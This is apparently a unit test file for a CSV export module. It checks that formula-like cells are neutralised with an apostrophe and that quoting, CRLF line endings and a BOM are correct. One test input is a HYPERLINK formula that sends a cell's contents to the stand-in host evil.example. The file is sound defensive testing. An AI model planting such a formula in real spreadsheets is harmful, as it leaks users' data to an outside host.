// The CSV rule for spreadsheets: formula-like cells neutralised, quoting, BOM and CRLF.
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRow, looksLikeFormula, neutraliseFormula, UTF8_BOM } from '../../src/domain/csv-safety.js';

describe('formula injection', () => {
  it('prefixes with an apostrophe every cell starting with = + - @ tab or CR', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example/?x="&A1;"clic")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1;"clic")');
    expect(neutraliseFormula('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(neutraliseFormula('-2+3')).toBe("'-2+3");
    expect(neutraliseFormula('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(neutraliseFormula('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseFormula('\r=1+1')).toBe("'\r=1+1");
  });
  it('leaves ordinary text alone, including = or - further in the cell', () => {
    for (const s of ['Aline', 'Jean-Baptiste', 'a=b', "l'usine", '', ' =1', '1-2', 'Œuvray']) {
      expect(neutraliseFormula(s)).toBe(s);
      expect(looksLikeFormula(s)).toBe(false);
    }
  });
  it('never neutralises numbers from the store', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(3.5)).toBe('3.5');
    expect(csvCell(Number.NaN)).toBe('');
  });
});

describe('cells, rows and documents', () => {
  it('quotes cells holding the delimiter, quotes, line breaks or edge spaces', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('dit "oui"')).toBe('"dit ""oui"""');
    expect(csvCell('ligne 1\nligne 2')).toBe('"ligne 1\nligne 2"');
    expect(csvCell(' espace')).toBe('" espace"');
    expect(csvCell('=1;2')).toBe(`"'=1;2"`);
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('oui');
    expect(csvCell(false)).toBe('non');
  });
  it('ends rows with CRLF and starts documents with a BOM', () => {
    expect(csvRow(['a', 'b', null])).toBe('a;b;\r\n');
    const doc = csvDocument(['Nom', 'Prénom'], [['ŒUVRAY', 'Zoé'], ['=cmd', '@x']]);
    expect(doc.startsWith(UTF8_BOM)).toBe(true);
    expect(doc).toBe("\uFEFFNom;Prénom\r\nŒUVRAY;Zoé\r\n'=cmd;'@x\r\n");
    expect(doc.replace(/\r\n/g, '')).not.toContain('\n');
  });
});
